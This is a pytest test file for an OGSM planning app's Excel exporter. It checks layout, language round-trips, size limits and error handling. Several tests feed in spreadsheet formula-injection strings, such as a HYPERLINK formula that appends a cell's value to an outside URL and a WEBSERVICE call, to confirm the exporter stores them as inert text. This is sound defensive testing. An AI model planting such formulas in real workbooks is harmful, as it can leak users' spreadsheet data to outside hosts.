"""Export: a workbook a planner can read, that imports again unchanged."""

import datetime as dt
import os

import openpyxl
import pytest

from ogsm_desktop.core.excel import importer
from ogsm_desktop.core.excel.exporter import SPARE_ROWS, export
from ogsm_desktop.core.storage import Plan


def test_export_is_a_readable_workbook_that_round_trips(plan, tmp_path):
    path = export(plan, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Cascade", "Measures", "Actuals"]
    cascade, measures, actuals = wb["Cascade"], wb["Measures"], wb["Actuals"]
    assert [c.value for c in cascade[1]][:3] == ["Code", "Kind", "Title"] and cascade["A1"].font.bold
    assert cascade.freeze_panes == "A2" and actuals.freeze_panes == "A2"
    assert cascade["C2"].value == "成为新能源汽车消费的第一入口"
    assert cascade.row_dimensions[3].outlineLevel == 1                       # C-G1 folds under C
    d1_row = next(r for r in range(2, cascade.max_row + 1) if cascade.cell(r, 1).value == "D1-G1")
    assert cascade.row_dimensions[d1_row].outlineLevel == 3                  # C › C-S1 › D1 › D1-G1
    m2 = next(r for r in measures.iter_rows(min_row=2) if r[0].value == "C-S2-M2")
    assert m2[9].value == 200 and m2[9].number_format == "#,##0.###"
    assert m2[10].value == dt.datetime(2026, 12, 31) and m2[10].number_format == "yyyy-mm-dd"
    rows = [[c.value for c in r] for r in actuals.iter_rows(min_row=2)]
    assert ["C-S1-M2", "2026-10", 17600, 21500, None] in rows
    assert len(rows) == plan.actuals.count()
    preview = importer.analyse(plan, path)
    assert preview.ok and not preview.changes_anything
    assert preview.counts()["values unchanged"] == plan.actuals.count()
    assert preview.counts()["measures unchanged"] == sum(n.kind in ("goal", "measure") for n in plan.nodes.tree().nodes.values())


def test_export_keeps_the_look_a_planner_reads(plan, tmp_path):
    """Headers white on dark, sized columns, the outline's summary row above its details, progress as a
    percentage, and the record of where the workbook came from among its custom properties."""
    wb = openpyxl.load_workbook(export(plan, tmp_path / "plan.xlsx"))
    cascade, measures = wb["Cascade"], wb["Measures"]
    header = cascade["A1"]
    assert header.fill.fgColor.rgb.endswith("37474F") and header.font.color.rgb.endswith("FFFFFF")
    assert cascade.column_dimensions["C"].width >= 60 and measures.column_dimensions["D"].width >= 44
    assert cascade.sheet_properties.outlinePr.summaryBelow is False
    progress = [r[6] for r in cascade.iter_rows(min_row=2) if r[6].value is not None]
    assert progress and all(c.number_format == "0%" for c in progress)
    names = {p.name for p in wb.custom_doc_props.props}
    assert {"OGSM Desktop plan", "OGSM Desktop journal point"} <= names


def test_text_that_looks_like_a_formula_stays_text(plan, tmp_path):
    node = next(n for n in plan.nodes.tree().nodes.values() if n.kind == "measure")
    with plan.batch("edit", "test") as _changes:
        plan.nodes.update(node.id, title='=HYPERLINK("http://example.com","x")', description="+1+1")
    wb = openpyxl.load_workbook(export(plan, tmp_path / "plan.xlsx"))
    row = next(r for r in wb["Measures"].iter_rows(min_row=2) if r[0].value == node.code)
    assert row[3].value == '=HYPERLINK("http://example.com","x")' and row[3].data_type == "s"
    assert row[4].value == "+1+1"


def test_more_values_than_a_sheet_holds_is_refused_and_nothing_written(plan, tmp_path, monkeypatch):
    from ogsm_desktop.core.errors import ValidationError
    from ogsm_desktop.core.excel import exporter

    monkeypatch.setattr(exporter, "LAST_ROW", plan.actuals.count() - 1)
    with pytest.raises(ValidationError, match="more current values than a sheet holds"):
        export(plan, tmp_path / "plan.xlsx")
    with pytest.raises(ValidationError):       # a unit's values are counted as they are written
        export(plan, tmp_path / "unit.xlsx", unit=plan.nodes.tree().roots()[0].code)
    assert not (tmp_path / "plan.xlsx").exists() and not (tmp_path / "unit.xlsx").exists()
    assert [p.name for p in tmp_path.iterdir() if "ogsm" not in p.name] == []


@pytest.mark.parametrize("reader", ["en", "zh_CN"])
def test_a_chinese_export_reads_back_in_either_language(plan, tmp_path, reader):
    """Exported in Chinese (sheet names and headers in the glossary's words), imported by a program in
    either language: every column recognised, the outline sheet skipped, nothing changed."""
    from ogsm_desktop.core import i18n

    i18n.set_language("zh_CN")
    path = export(plan, tmp_path / "计划.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["分解", "衡量指标", "实际值"]
    assert [c.value for c in wb["实际值"][1]] == ["编号", "期间", "实际值", "目标值", "备注"]
    i18n.set_language(reader)
    preview = importer.analyse(plan, path)
    assert preview.ok and not preview.changes_anything
    assert preview.counts()["values unchanged"] == plan.actuals.count()
    assert preview.counts()["measures unchanged"] == sum(n.kind in ("goal", "measure") for n in plan.nodes.tree().nodes.values())


FORMULA_LIKE = ['=HYPERLINK("http://example.invalid/?"&B2,"点这里")', "+1+1", "-2+3", "@SUM(A1:A2)", '=WEBSERVICE("x")']


def test_text_that_looks_like_a_formula_is_exported_as_text(plan, tmp_path):
    """A title beginning with = was written as a live formula (a clickable link that sends a cell away)."""
    texts = dict(zip(("C", "C-S1-M2", "C-S1", "C-S1-A1", "C-G1"), FORMULA_LIKE, strict=True))
    with plan.batch():
        for code, text in texts.items():
            plan.nodes.update(plan.nodes.by_code(code).id, title=text, description=text, owner=text)
        m2 = plan.nodes.by_code("C-S1-M2").id
        plan.actuals.write([(m2, "2026-10", 17600.0, 20000.0, FORMULA_LIKE[0])])
    path = export(plan, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(("=", "+", "-", "@")):
                    found[(ws.title, cell.coordinate)] = (cell.data_type, cell.value)
    assert found and all(data_type == "s" for data_type, _ in found.values()), found
    assert {v for _, v in found.values()} >= set(FORMULA_LIKE)
    # and the import reads the same text back: nothing changes
    preview = importer.analyse(plan, path)
    assert preview.ok and not preview.changes_anything


def test_libreoffice_opens_the_export_and_runs_nothing(plan, tmp_path):
    """Opened in LibreOffice (headless: it loads, calculates and saves every cell as text), each text that
    looks like a formula is still that text — no formula ran, no link was made."""
    import csv
    import shutil
    import subprocess

    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed; the cells' types were checked above")
    texts = dict(zip(("C", "C-S1-M2", "C-S1", "C-S1-A1", "C-G1"), FORMULA_LIKE, strict=True))
    with plan.batch():
        for code, text in texts.items():
            plan.nodes.update(plan.nodes.by_code(code).id, title=text, description=text)
        plan.actuals.write([(plan.nodes.by_code("C-S1-M2").id, "2026-10", 17600.0, 20000.0, FORMULA_LIKE[0])])
    path = export(plan, tmp_path / "plan.xlsx")
    seen: set[str] = set()
    for sheet in ("Cascade", "Measures", "Actuals"):
        out = tmp_path / sheet
        out.mkdir()
        # the CSV filter's 12th token names the sheet to write (LibreOffice 7.2 and later)
        subprocess.run([office, f"-env:UserInstallation={(tmp_path / 'lo').resolve().as_uri()}", "--headless",
                        "--convert-to", f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,"
                        f"{['Cascade', 'Measures', 'Actuals'].index(sheet) + 1}", "--outdir", str(out), str(path)],
                       capture_output=True, timeout=180, check=False)
        written = list(out.glob("*.csv"))
        assert written, f"LibreOffice did not write the {sheet} sheet"
        with written[0].open(encoding="utf-8") as fh:
            seen |= {cell.strip() for row in csv.reader(fh) for cell in row}
    assert set(FORMULA_LIKE) <= seen, set(FORMULA_LIKE) - seen


def test_a_plan_without_measures_or_values_still_has_every_header(tmp_path):
    """A sheet with no rows keeps its headers (the writer takes them from the first row), so the workbook
    can be filled in and imported."""
    from ogsm_desktop.core.storage import Plan

    with Plan.create(tmp_path / "empty.ogsm") as plan:
        with plan.batch():
            plan.nodes.add(None, "objective", code="C", title="Grow")
        wb = openpyxl.load_workbook(export(plan, tmp_path / "plan.xlsx"))
    assert [c.value for c in wb["Measures"][1]][:4] == ["Code", "Parent", "Kind", "Title"]
    assert [c.value for c in wb["Actuals"][1]] == ["Code", "Period", "Actual", "Target", "Comment"]
    assert wb["Measures"].max_row == 1 and wb["Actuals"].max_row == 1
    assert wb["Measures"].freeze_panes == "A2" and wb["Measures"]["A1"].font.bold


def test_a_text_longer_than_a_cell_holds_refuses_the_export_naming_the_node(demo_path, tmp_path):
    """Excel's cells hold 32,767 characters: the longer text was cut short without a word, and importing
    the workbook back then offered the cut text as a change. (A plan takes no longer text now; one written by
    an older version may hold one.)"""
    import sqlite3

    from ogsm_desktop.core.errors import ValidationError

    conn = sqlite3.connect(demo_path)
    with conn:
        conn.execute("UPDATE nodes SET description = ? WHERE code = 'C-S1-M2'", ("长" * 32_768,))
    conn.close()
    with Plan.open(demo_path) as plan:
        with pytest.raises(ValidationError, match=r"C-S1-M2: a text of 32,768 characters is longer than a cell"):
            export(plan, tmp_path / "plan.xlsx")
        assert [p.name for p in tmp_path.iterdir() if "ogsm" not in p.name] == []
        _export_the_longest(plan, tmp_path)


def _export_the_longest(plan, tmp_path):
    with plan.batch():
        plan.nodes.update(plan.nodes.by_code("C-S1-M2").id, description="长" * 32_767)
    row = next(r for r in openpyxl.load_workbook(export(plan, tmp_path / "plan.xlsx"))["Measures"].iter_rows(min_row=2)
               if r[0].value == "C-S1-M2")
    assert row[4].value == "长" * 32_767


def test_a_cancelled_export_writes_nothing(plan, tmp_path, monkeypatch):
    from ogsm_desktop.core.excel import exporter

    monkeypatch.setattr(exporter, "PROGRESS_EVERY", 3)
    asked = []
    with pytest.raises(exporter.ExportCancelled):
        export(plan, tmp_path / "plan.xlsx", lambda what, done, total: asked.append(done) and False)
    assert asked == [3]
    assert [p.name for p in tmp_path.iterdir() if "ogsm" not in p.name] == []


def test_outline_levels_follow_the_depth_up_to_excels_seven():
    """Each row's outline level is its depth, at most 7 (Excel's most), however the depths run."""
    import random

    from ogsm_desktop.core.excel.exporter import _groups

    rng = random.Random(5)
    for _ in range(300):
        depths = [0]
        for _ in range(rng.randrange(0, 40)):
            depths.append(rng.randrange(0, min(depths[-1] + 1, 11) + 1))
        levels = [0] * (len(depths) + 1)               # by sheet row (row 0 is the header)
        for group in _groups(depths):
            for row in range(group["from"], group["to"] + 1):
                levels[row] += 1
        assert levels[1:] == [min(d, 7) for d in depths], depths


def test_the_origin_record_is_written_whatever_the_plan_is_named(plan, tmp_path, monkeypatch):
    """A plan name with a control character, quotes and markup, and a path with a byte that is not
    UTF-8, still make a workbook that opens, its record read back (what XML cannot hold as U+FFFD)."""
    import dataclasses

    from ogsm_desktop.core.excel import exporter
    from ogsm_desktop.core.excel.books import open_book

    real = exporter.origin_of_plan

    def odd(p, unit_code=""):
        return dataclasses.replace(real(p, unit_code), plan_id="", plan_path=str(tmp_path / "caf\udce9.ogsm"),
                                   plan_name='Plan "A" <&>\x07\u2028 2027')

    monkeypatch.setattr(exporter, "origin_of_plan", odd)
    path = export(plan, tmp_path / "plan.xlsx")
    props = {p.name: p.value for p in openpyxl.load_workbook(path).custom_doc_props.props}
    assert props["OGSM Desktop plan"] == 'Plan "A" <&>\ufffd\u2028 2027'
    assert props["OGSM Desktop plan file"].endswith("caf\ufffd.ogsm")
    with open_book(path) as book:
        assert book.properties()["OGSM Desktop plan"] == 'Plan "A" <&>\ufffd\u2028 2027'


def test_a_full_temporary_folder_is_said_as_such_and_nothing_written(plan, tmp_path, monkeypatch):
    """The writer keeps its rows in its temporary folder until it packs them, and stops with a panic (not
    an exception) when it cannot write there: said as that folder being full, the folder Rust uses (TMPDIR;
    Python's tempfile also looks at TMP and TEMP)."""
    from ogsm_desktop.core.excel import exporter
    from ogsm_desktop.core.outputs import OutputError

    monkeypatch.setenv("TMPDIR", str(tmp_path / "rows"))
    monkeypatch.setenv("TMP", str(tmp_path / "elsewhere"))
    # as the binding's runtime makes it; the code is an errno here, a Windows error (112) on Windows
    PanicException = type("PanicException", (BaseException,), {"__module__": "pyo3_runtime"})
    for said in ('Os { code: 28, kind: StorageFull, message: "No space left on device" }',
                 'Os { code: 112, kind: StorageFull, message: "There is not enough space on the disk." }'):

        def full(self, xw, target, said=said):
            raise PanicException(f"Couldn't write to xml file: {said}")

        monkeypatch.setattr(exporter._Book, "write", full)
        with pytest.raises(OutputError, match="the temporary folder .* is full; nothing was written") as raised:
            export(plan, tmp_path / "plan.xlsx")
        assert str(tmp_path / "rows") in str(raised.value)
        assert [p.name for p in tmp_path.iterdir() if "ogsm" not in p.name] == []


def test_a_writer_that_stops_is_one_line_on_the_command_line(demo_path, tmp_path):
    """When the writer cannot write its row files (here: no file may grow past 300 KB), it panics and Rust
    writes its own lines ("thread … panicked at …", a backtrace with RUST_BACKTRACE) before the refusal:
    now only the refusal is said (found by a cold review)."""
    import resource
    import signal
    import subprocess
    import sys

    from ogsm_desktop.core.storage import Plan

    with Plan.open(demo_path) as plan, plan.batch():
        measures = [n.id for n in plan.nodes.tree().nodes.values() if n.kind == "measure"]
        plan.actuals.write([(m, f"{year}-{month:02d}", float(month), 10.0, "x" * 40)
                            for m in measures for year in range(2000, 2040) for month in range(1, 13)])

    def small_files():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)      # a write past the limit fails instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (300_000, 300_000))

    out = tmp_path / "out.xlsx"
    for backtrace in ("0", "1"):
        done = subprocess.run([sys.executable, "-m", "ogsm_desktop", "export", str(demo_path), str(out)],
                              capture_output=True, text=True, encoding="utf-8", preexec_fn=small_files,
                              env={**os.environ, "TMPDIR": str(tmp_path), "RUST_BACKTRACE": backtrace})
        assert done.returncode == 1, done.stderr
        assert done.stderr.count("\n") == 1 and "the workbook could not be written" in done.stderr, done.stderr
        assert "panicked" not in done.stderr and not out.exists()


def test_a_title_a_cell_holds_is_exported_whatever_its_depth(plan, tmp_path):
    """The Cascade sheet indents a title by its depth: a title of 32,767 characters refused the export as
    'a text of 32,775 characters' (found by a cold review). The indented copy is cut instead."""
    with plan.batch():
        plan.nodes.update(plan.nodes.by_code("C-S1-M2").id, title="长" * 32_767)
    wb = openpyxl.load_workbook(export(plan, tmp_path / "plan.xlsx"))
    measure = next(r for r in wb["Measures"].iter_rows(min_row=2) if r[0].value == "C-S1-M2")
    cascade = next(r for r in wb["Cascade"].iter_rows(min_row=2) if r[0].value == "C-S1-M2")
    assert measure[3].value == "长" * 32_767
    assert cascade[2].value == ("        " + "长" * 32_767)[:32_767]
    assert importer.analyse(plan, tmp_path / "plan.xlsx").changes_anything is False


@pytest.mark.parametrize("language", ["en", "zh_CN"])
def test_each_sheet_s_headers_differ_in_every_language(language):
    """The writer takes a sheet's columns from the keys of its rows: two headers translated alike would
    make one column, and the values after it would move one column left."""
    from ogsm_desktop.core import i18n
    from ogsm_desktop.core.excel.exporter import ACTUAL_COLUMNS, CASCADE_COLUMNS, MEASURE_COLUMNS, _headers

    i18n.set_language(language)
    for columns in (CASCADE_COLUMNS, MEASURE_COLUMNS, ACTUAL_COLUMNS):
        headers = _headers(columns)
        assert len(set(headers)) == len(headers), headers


def test_a_value_emptied_in_the_workbook_is_kept_and_said(plan, tmp_path):
    """Found by a tester: an actual deleted in Excel was not imported and counted as unchanged, without a
    word. An import never clears a value (an empty cell keeps the plan's); the preview now says how many
    values the workbook left empty or did not give were kept."""
    path = export(plan, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(path)
    row = next(r for r in wb["Actuals"].iter_rows(min_row=2) if r[0].value == "C-S1-M2" and r[1].value == "2026-10")
    row[2].value = None                                   # the actual, 17600, deleted; its target stays
    wb.save(path)
    preview = importer.analyse(plan, path)
    assert preview.ok and not preview.changes_anything
    assert preview.counts()["values kept"] == 1
    assert "1 value left empty or not given kept the plan's value (an import clears none)" in preview.summary()
    assert "kept the plan's value" not in importer.analyse(plan, export(plan, tmp_path / "again.xlsx")).summary()


def test_values_for_periods_outside_the_plan_year_are_said(plan, tmp_path):
    """Found by a tester: a sheet mapped to a measure brought in twelve values of 2022 into the 2026 plan
    without a word; afterwards nothing seemed to change (they are outside the year the views show). The
    preview now says how many values are outside the plan year, and which year that is."""
    from ogsm_desktop.core.plan_settings import MonitorSettings

    calendar = MonitorSettings.of(plan).calendar_for(dt.date.today())
    path = export(plan, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(path)
    sheet = wb["Actuals"]
    sheet.append(["C-S1-M2", "2022-01", 100, None, None])
    sheet.append(["C-S1-M2", "2022-02", 110, None, None])
    wb.save(path)
    preview = importer.analyse(plan, path)
    assert preview.ok and preview.counts()["values new"] == 2
    assert (f"2 values imported are for periods outside the plan year ({calendar.label()}): the plan year's "
            "views and statuses do not show them") in preview.warnings
    assert not importer.analyse(plan, export(plan, tmp_path / "again.xlsx")).warnings


def _with_every_choice(plan):
    """The demo plan with a weekly measure that is better lower and a quarterly one besides its monthly
    ones, so that every kind, direction and frequency is written."""
    strategy = plan.nodes.by_code("C-S1")
    with plan.batch("edit", "test"):
        plan.nodes.add(strategy.id, "measure", code="C-S1-WK", title="每周投诉", direction="lower", frequency="weekly")
        plan.nodes.add(strategy.id, "measure", code="C-S1-QT", title="季度满意度", frequency="quarterly")
    return plan


def test_a_chinese_export_writes_kinds_directions_and_frequencies_in_chinese(plan, tmp_path):
    """Found by a user: a workbook exported in Chinese had its headers and statuses in Chinese but the kind
    (goal, measure…), the direction (higher/lower) and the frequency (monthly…) in English."""
    from ogsm_desktop.core import i18n

    _with_every_choice(plan)
    i18n.set_language("zh_CN")
    wb = openpyxl.load_workbook(export(plan, tmp_path / "计划.xlsx"))
    cascade = {r[0].value: r for r in wb["分解"].iter_rows(min_row=2)}
    assert {r[1].value for r in cascade.values()} == {"目的", "目标", "策略", "衡量", "行动"}
    assert cascade["C"][1].value == "目的" and cascade["C-S1"][1].value == "策略"
    measures = {r[0].value: [c.value for c in r] for r in wb["衡量指标"].iter_rows(min_row=2)}
    assert {r[2] for r in measures.values()} == {"目标", "衡量"}
    assert {r[11] for r in measures.values()} == {"越高越好", "越低越好"}
    assert {r[12] for r in measures.values()} == {"每周", "每月", "每季度"}
    assert measures["C-S1-WK"][2:3] + measures["C-S1-WK"][11:13] == ["衡量", "越低越好", "每周"]
    assert measures["C-S1-QT"][11:13] == ["越高越好", "每季度"]


@pytest.mark.parametrize("language", ["zh_CN", "en"])
def test_an_export_imports_back_into_its_plan_unchanged_in_either_language(plan, tmp_path, language):
    """Every kind, direction and frequency written in the language spoken is read back as what it was: the
    import finds no problem and changes nothing (no measure, no value)."""
    from ogsm_desktop.core import i18n

    _with_every_choice(plan)
    i18n.set_language(language)
    preview = importer.analyse(plan, export(plan, tmp_path / "plan.xlsx"))
    assert preview.ok and not preview.problems and not preview.changes_anything
    counts = preview.counts()
    assert counts["measures changed"] == counts["measures new"] == 0
    assert counts["values changed"] == counts["values new"] == 0
    assert counts["measures unchanged"] == sum(n.kind in ("goal", "measure") for n in plan.nodes.tree().nodes.values())
    assert counts["values unchanged"] == plan.actuals.count()


@pytest.mark.parametrize(("language", "sheet", "kinds", "directions", "frequencies"), [
    ("en", "Measures", "goal,measure", "higher is better,lower is better", "weekly,monthly,quarterly"),
    ("zh_CN", "衡量指标", "目标,衡量", "越高越好,越低越好", "每周,每月,每季度")])
def test_the_choice_columns_offer_their_words_in_a_drop_down(plan, tmp_path, language, sheet, kinds, directions,
                                                             frequencies):
    """Found by a planner: the Measures sheet let any word into Kind, Direction and Frequency, and the import
    refused the file afterwards. Each column now offers its words, in the workbook's language, in a drop-down
    list — on the rows of the plan's goals and measures and on the empty rows below them, for new ones."""
    from ogsm_desktop.core import i18n

    i18n.set_language(language)
    path = export(plan, tmp_path / "plan.xlsx")
    ws = openpyxl.load_workbook(path)[sheet]
    last = ws.max_row
    found = {str(v.sqref): (v.type, v.formula1, v.allow_blank) for v in ws.data_validations.dataValidation}
    spare = last + SPARE_ROWS
    assert found == {f"C2:C{spare}": ("list", f'"{kinds}"', True),
                     f"L2:L{spare}": ("list", f'"{directions}"', True),
                     f"M2:M{spare}": ("list", f'"{frequencies}"', True)}, found
    assert [ws.cell(1, c).value for c in (3, 12, 13)] == ([i18n._("Kind"), i18n._("Direction"), i18n._("Frequency")])
    # Found in review: Excel refused a synonym the import reads (越低 for lower is better): another word is
    # warned about, and kept when the user says so.
    assert {(v.errorStyle, bool(v.error)) for v in ws.data_validations.dataValidation} == {("warning", True)}
    preview = importer.analyse(plan, path)
    assert preview.ok and not preview.changes_anything
